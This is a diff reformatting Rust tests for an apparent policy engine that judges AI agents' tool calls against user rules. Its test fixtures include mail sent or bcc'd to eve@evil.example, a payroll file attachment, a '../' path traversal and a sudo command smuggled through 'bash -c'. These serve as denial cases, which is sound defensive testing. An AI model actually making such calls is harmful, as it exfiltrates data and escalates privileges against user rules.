@@ -81,11 +81,20 @@ const SENTENCES: [&str; 5] = [
 fn breaking() -> Vec<(&'static str, Value)> {
     vec![
         ("gmail.send_email", json!({"to": ["eve@evil.example"], "subject": "s", "body": "b"})),
-        ("gmail.send_email", json!({"to": ["ann@acme.com"], "bcc": ["eve@evil.example"], "subject": "s", "body": "b"})),
+        (
+            "gmail.send_email",
+            json!({"to": ["ann@acme.com"], "bcc": ["eve@evil.example"], "subject": "s", "body": "b"}),
+        ),
         ("filesystem.write_file", json!({"path": "docs/../src/a.rs", "content": "x"})),
         ("desktop-commander.start_process", json!({"command": "make deploy", "timeout_ms": 1000})),
-        ("desktop-commander.start_process", json!({"command": "env A=1 bash -c 'sudo id'", "timeout_ms": 1000})),
-        ("gmail.send_email", json!({"to": ["ann@acme.com"], "subject": "s", "body": "b", "attachments": ["hr/pay.csv"]})),
+        (
+            "desktop-commander.start_process",
+            json!({"command": "env A=1 bash -c 'sudo id'", "timeout_ms": 1000}),
+        ),
+        (
+            "gmail.send_email",
+            json!({"to": ["ann@acme.com"], "subject": "s", "body": "b", "attachments": ["hr/pay.csv"]}),
+        ),
     ]
 }
 
@@ -131,7 +140,11 @@ fn a_line_that_cannot_be_read_may_break_any_rule() {
     let command = json!({"command": "echo 'unclosed", "timeout_ms": 1000});
     let verdict = decide(&session, "desktop-commander.start_process", &command, friday());
     assert_eq!(verdict.decision, Decision::Deny);
-    assert!(verdict.reasons().iter().any(|reason| reason.contains("cannot be ruled out")), "{:?}", verdict.reasons());
+    assert!(
+        verdict.reasons().iter().any(|reason| reason.contains("cannot be ruled out")),
+        "{:?}",
+        verdict.reasons()
+    );
 }
 
 #[test]
@@ -154,7 +167,10 @@ fn what_a_rule_asks_about_is_asked_each_time() {
 
 #[test]
 fn no_approval_lifts_a_denial() {
-    let mut session = session(&allowing_everything(), &["ask me before sending mail", "never email anyone outside acme.com"]);
+    let mut session = session(
+        &allowing_everything(),
+        &["ask me before sending mail", "never email anyone outside acme.com"],
+    );
     let arguments = json!({"to": ["eve@evil.example"], "subject": "s", "body": "b"});
     let verdict = decide(&session, "gmail.send_email", &arguments, friday());
     assert_eq!(verdict.decision, Decision::Deny);
